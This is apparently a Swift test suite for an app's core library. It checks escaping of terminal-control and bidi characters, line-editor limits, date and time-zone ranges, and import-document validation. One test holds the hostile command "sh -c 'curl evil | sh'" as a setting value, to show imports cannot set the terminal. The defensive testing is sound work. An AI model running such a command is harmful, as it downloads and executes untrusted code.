import Foundation
import Testing

@testable import NudgeCore

/// Text from outside shown escaped (VisibleText), kept exactly.
@Suite struct VisibleTextTests {
  @Test(arguments: [
    ("plain words", "plain words"),
    (
      "caf\u{E9} \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}",
      "caf\u{E9} \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}"
    ),
    ("\u{1B}[2J\u{1B}[31mred", "\\u{001B}[2J\\u{001B}[31mred"),
    ("a\u{202E}evil\u{202C}b", "a\\u{202E}evil\\u{202C}b"),
    ("x\u{2066}y\u{2069}", "x\\u{2066}y\\u{2069}"),
    ("one\u{2028}two\u{2029}", "one\\u{2028}two\\u{2029}"),
    ("\u{200B}water\u{200B}", "\\u{200B}water\\u{200B}"),
    ("tab\there\u{7F}\u{9B}", "tab\\u{0009}here\\u{007F}\\u{009B}"),
    ("line\nbreak\r", "line\\u{000A}break\\u{000D}"),
    ("\u{FEFF}bom", "\\u{FEFF}bom"),
  ])
  func escapesWhatRearrangesTheScreen(text: String, shown: String) {
    #expect(VisibleText.escaped(text) == shown)
  }

  @Test func aZeroWidthJoinerInsideAWordStays() {
    let family = "\u{1F468}\u{200D}\u{1F469}"
    #expect(VisibleText.escaped(family) == family)
  }

  @Test func entriesAreShownEscapedAndTheStoredOnesUntouched() {
    let review = ReviewEntry(
      day: Day(year: 2026, month: 11, day: 20), why: "\u{202E}gnirts", commitTo: "walk\u{2028}",
      savedAt: "2026-11-20T08:00:00+01:00")
    #expect(review.shown.why == "\\u{202E}gnirts")
    #expect(review.shown.commitment == "Today I will walk\\u{2028}.")
    #expect(review.why == "\u{202E}gnirts")
  }
}

/// The line editor's core: keys from bytes, a line that a paste of any length cannot stall.
@Suite struct LineEditingTests {
  func type(_ bytes: [UInt8], into buffer: inout LineBuffer) -> [LineBuffer.Outcome] {
    var rest = bytes[...]
    var outcomes: [LineBuffer.Outcome] = []
    while let key = KeyDecoder.next({ rest.popFirst() }) {
      outcomes.append(buffer.apply(key, inputPending: !rest.isEmpty))
    }
    return outcomes
  }

  @Test func aLongPasteIsCutAtTheLimitAndKeepsItsNewlinesAsSpaces() {
    var buffer = LineBuffer()
    // (the newline that ends a paste would end the answer; the ones inside it do not)
    let paste = Array(String(repeating: "ab\n", count: 50_000).utf8.dropLast())
    let outcomes = type(paste, into: &buffer)
    #expect(!outcomes.contains { if case .done = $0 { true } else { false } })
    #expect(buffer.line.count == LineBuffer.maxCharacters)
    #expect(buffer.text.hasPrefix("ab ab ab"))
    #expect(buffer.cursor == buffer.line.count)
  }

  @Test func scalarsArrivingOneByOneBecomeTheCharacterAPersonSees() {
    var buffer = LineBuffer()
    _ = type(Array("e\u{301}\u{1F468}\u{200D}\u{1F469}".utf8), into: &buffer)
    #expect(buffer.line.count == 2)
    #expect(buffer.text == "e\u{301}\u{1F468}\u{200D}\u{1F469}")
    #expect(
      buffer.apply(.enter, inputPending: false) == .done("e\u{301}\u{1F468}\u{200D}\u{1F469}"))
  }

  @Test func editingKeysMoveAndDelete() {
    var buffer = LineBuffer()
    // "hello", Left Left, Backspace, "X", Ctrl-A, Delete, End, Ctrl-W
    _ = type(Array("hello\u{1B}[D\u{1B}[D\u{7F}X\u{01}\u{1B}[3~\u{05}".utf8), into: &buffer)
    #expect(buffer.text == "eXlo")
    #expect(buffer.apply(.killWord, inputPending: false) == .edited)
    #expect(buffer.text.isEmpty)
    #expect(buffer.apply(.endOfInput, inputPending: false) == .endOfInput)
  }

  @Test func anEndlessEscapeSequenceIsDroppedNotCollected() {
    var bytes: [UInt8] =
      [27, UInt8(ascii: "[")] + Array(repeating: UInt8(ascii: "1"), count: 100_000)
    bytes.append(UInt8(ascii: "~"))
    var rest = bytes[...]
    #expect(KeyDecoder.next({ rest.popFirst() }) == .ignored)
    #expect(rest.isEmpty)
  }
}

/// Values no later command can read are refused where they are made; what is written reads back.
@Suite struct TimeRangeTests {
  @Test(arguments: ["-0001-01-01", "10000-01-04", "0000-02-29", "123456789-12-31"])
  func daysOutsideFourDigitYearsReadBack(text: String) throws {
    let day = try #require(Day(text))
    #expect(day.description == text)
    #expect(Day(ordinal: day.ordinal) == day)
  }

  @Test(arguments: ["01234-01-01", "-00001-01-01", "2026-1-01", "20261-13-01", "9999999999-01-01"])
  func nonCanonicalDaysAreRefused(text: String) {
    #expect(Day(text) == nil)
  }

  @Test func theSupportedRangeEndsWithRoomForAYearsPause() {
    #expect(SupportedTime.contains(InstantFormat.parse("9998-12-31T23:59:59Z")!))
    #expect(!SupportedTime.contains(InstantFormat.parse("9999-01-01T00:00:00Z")!))
    #expect(!SupportedTime.contains(InstantFormat.parse("1969-12-31T23:59:59Z")!))
    let last = SupportedTime.lastDay.adding(days: Pause.maxDays)
    #expect(Day(last.description) == last && last.year == 9999)
  }

  @Test(arguments: [
    ("ABC99999999999999999999", -(24 * 3600)), ("XYZ-99:99:99", 24 * 3600 + 59 * 60 + 59),
    ("EST5", -5 * 3600), ("<+0330>-3:30", 3 * 3600 + 30 * 60),
  ])
  func garbageOffsetsAreClampedAsGlibcClampsThem(tz: String, offset: Int) throws {
    let zone = try #require(ZoneRules(posix: tz))
    let local = LocalTime(Instant(seconds: 1_700_000_000), in: zone)
    #expect(local.utcOffset == offset)
    let text = InstantFormat.format(Instant(seconds: 1_700_000_000), in: zone)
    #expect(InstantFormat.parse(text) == Instant(seconds: 1_700_000_000), "\(text)")
  }

  @Test func anOffsetWithSecondsIsWrittenWithThemAndReadsBack() throws {
    let zone = try #require(ZoneRules(posix: "LMT-0:17:30"))
    let instant = Instant(seconds: 1_800_000_000)
    let text = InstantFormat.format(instant, in: zone)
    #expect(text.hasSuffix("+00:17:30"))
    #expect(InstantFormat.parse(text) == instant)
  }

  @Test(arguments: ["ABC5DEF,M13.1.0,M11.1.0", "ABC5DEF,J0,J400", "ABC5DEF,M3.9.0,M11.1.0"])
  func rulesGlibcRefusesAreNotTaken(tz: String) {
    #expect(PosixTZ(tz) == nil)
  }
}

/// An import document is held to what the flows allow; the first offending path is named.
@Suite struct ImportValidationTests {
  static let day = Day(year: 2026, month: 11, day: 20)

  func refusal(_ document: ExportDocument) -> String? {
    do {
      try document.validate()
      return nil
    } catch { return error.message }
  }

  func document(
    prep: [PrepEntry] = [], review: [ReviewEntry] = [], checkin: [CheckinEntry] = [],
    help: [HelpNote] = [], settings: [String: String] = [:], pauses: [Pause] = []
  ) -> ExportDocument {
    ExportDocument(
      settings: settings, prep: prep, review: review, checkin: checkin, help: help,
      pauses: pauses)
  }

  @Test func anEntryTheFlowWouldRefuseIsRefused() {
    let empty = PrepEntry(day: Self.day, savedAt: "2026-11-20T21:00:00+01:00")
    #expect(refusal(document(prep: [empty]))?.hasPrefix("prep[0] has no item ready") == true)
    let noCommitment = ReviewEntry(
      day: Self.day, why: "health", savedAt: "2026-11-20T08:00:00+01:00")
    #expect(
      refusal(document(review: [noCommitment]))?.hasPrefix("review[0] has no commitment") == true)
    let blank = CheckinEntry(day: Self.day, blocker: "rain", savedAt: "2026-11-20T22:00:00+01:00")
    #expect(refusal(document(checkin: [blank]))?.hasPrefix("checkin[0] has no answer") == true)
  }

  @Test func daysAndTimesOutsideTheRangeAreRefused() {
    let far = PrepEntry(
      day: Day(year: 10000, month: 1, day: 1), water: true, savedAt: "2026-11-20T21:00:00+01:00")
    #expect(
      refusal(document(prep: [far]))?.hasPrefix("prep[0].day is 10000-01-01, outside") == true)
    let early = PrepEntry(day: Self.day, water: true, savedAt: "1960-01-01T00:00:00Z")
    #expect(refusal(document(prep: [early]))?.contains("prep[0].saved_at") == true)
  }

  @Test func aSaveBeforeItsDayIsRefused() {
    let forged = PrepEntry(day: Self.day, water: true, savedAt: "2026-11-01T21:00:00+01:00")
    #expect(refusal(document(prep: [forged]))?.contains("comes before the entry's day") == true)
  }

  @Test func aNoteWhoseDayDoesNotMatchItsTimeIsRefused() {
    func note(_ day: Day, _ at: String) -> HelpNote {
      HelpNote(id: "n1", day: day, category: .stress, note: nil, at: at)
    }
    #expect(refusal(document(help: [note(Self.day, "2026-11-20T15:00:00+01:00")])) == nil)
    // before the rollover: the evening before
    #expect(refusal(document(help: [note(Self.day, "2026-11-21T01:00:00+01:00")])) == nil)
    let message = refusal(document(help: [note(Self.day, "2026-11-25T15:00:00+01:00")]))
    #expect(message == "help[0].day 2026-11-20 does not match its time 2026-11-25T15:00:00+01:00.")
  }

  @Test func idsAndTextsAreBounded() {
    let badID = HelpNote(
      id: "a b", day: Self.day, category: .habit, note: nil, at: "2026-11-20T15:00:00+01:00")
    #expect(refusal(document(help: [badID]))?.contains("help[0].id") == true)
    let long = PrepEntry(
      day: Self.day, other: String(repeating: "x", count: FreeText.maxLength + 1),
      savedAt: "2026-11-20T21:00:00+01:00")
    #expect(refusal(document(prep: [long]))?.contains("longer than") == true)
    let marks = PrepEntry(
      day: Self.day, other: "a" + String(repeating: "\u{301}", count: 20_000),
      savedAt: "2026-11-20T21:00:00+01:00")
    #expect(refusal(document(prep: [marks]))?.contains("longer than") == true)
  }

  @Test func aTerminalSettingIsNotCheckedBecauseItIsNeverTaken() {
    #expect(refusal(document(settings: ["terminal": "sh -c 'curl evil | sh'"])) == nil)
    #expect(ExportDocument.machineSettings.contains(.terminal))
    #expect(refusal(document(settings: ["snooze": "999h"]))?.hasPrefix("settings.snooze") == true)
  }

  @Test func deepNestingAndHugeDocumentsAreRefusedBeforeDecoding() {
    let deep = Data(
      (String(repeating: "[", count: 1_000_000) + String(repeating: "]", count: 1_000_000)).utf8)
    let error = #expect(throws: InputError.self) { try ExportDocument.decode(deep) }
    #expect(error?.message.contains("nest deeper than") == true)
    let huge = Data(count: ExportDocument.maxBytes + 1)
    #expect(throws: InputError.self) { try ExportDocument.decode(huge) }
    // brackets inside strings are text, not nesting
    let quoted = Data(
      #"{"format": "nudge-export", "note": "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\"[[["}"#.utf8)
    #expect(throws: Never.self) { try ExportDocument.checkNesting(quoted) }
  }
}
